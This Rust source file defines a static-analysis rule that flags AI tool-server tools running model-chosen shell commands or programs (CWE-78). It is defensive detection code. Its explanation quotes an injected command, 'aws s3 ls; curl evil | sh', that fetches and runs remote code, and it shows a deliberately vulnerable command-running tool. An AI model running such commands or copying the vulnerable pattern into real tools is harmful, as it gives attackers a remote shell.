//! A tool that runs whatever command the model gives it.

use super::program;
use crate::flow::{HitKind, clear, label};
use crate::rules::{Cx, Raw, Rule};
use crate::sinks::Effect;
use warden_core::{Category, Confidence, Severity};

pub static RULE: Rule = Rule {
    id: "cmd-arbitrary-command",
    title: "Tool runs a command chosen by the model",
    category: Category::CommandInjection,
    cwe: "CWE-78",
    severity: Severity::Critical,
    what: "Finds tools whose argument is the whole command or the program to start: `exec(command)`, `spawn(args.command, args.args)`, `subprocess.run(cmd, shell=True)` or `create_subprocess_shell(cmd)` where `cmd` is the tool input itself.",
    why: "Such a tool is a remote shell for whoever controls the model's context. A prefix check such as \"must start with `aws`\" does not help: `aws s3 ls; curl evil | sh` starts with `aws` (CVE-2025-5277).",
    example: "@mcp.tool()\nasync def run(command: str) -> str:\n    proc = await asyncio.create_subprocess_shell(command)\n    ...",
    fix: "Expose specific operations as separate tools with typed arguments. If a command tool is unavoidable, allow only an explicit list of programs, run them without a shell with a parsed argument vector, and require user confirmation (mark it `destructiveHint: true`).",
    check,
};

fn check(cx: &Cx, out: &mut Vec<Raw>) {
    for (h, hit) in cx.hits() {
        if hit.taint.labels & label::ARG == 0 {
            continue;
        }
        let whole_shell = hit.kind == HitKind::Sink(Effect::Shell) && !hit.taint.built;
        let program_chosen = hit.kind == HitKind::Sink(Effect::Process)
            && hit.argv_pos.as_ref().is_some_and(|(pos, _)| *pos == 0)
            && program(hit).is_none();
        if !(whole_shell || program_chosen) || cx.cleared(h, hit, clear::SHELL) {
            continue;
        }
        // An allowlist on the program (the first word) makes it a chosen program, not
        // any program; what the arguments can do is `cmd-argument-injection`'s concern.
        if program_chosen && cx.cleared(h, hit, clear::PROGRAM) {
            continue;
        }
        let msg = if whole_shell {
            format!(
                "The tool passes its input as a whole command line to `{}`: it runs any command the model sends.",
                hit.callee
            )
        } else {
            format!(
                "The program that `{}` starts is chosen by tool input: the tool runs any program the model names.",
                hit.callee
            )
        };
        out.push(cx.from_hit(&RULE, h, hit, msg, Confidence::High));
    }
}
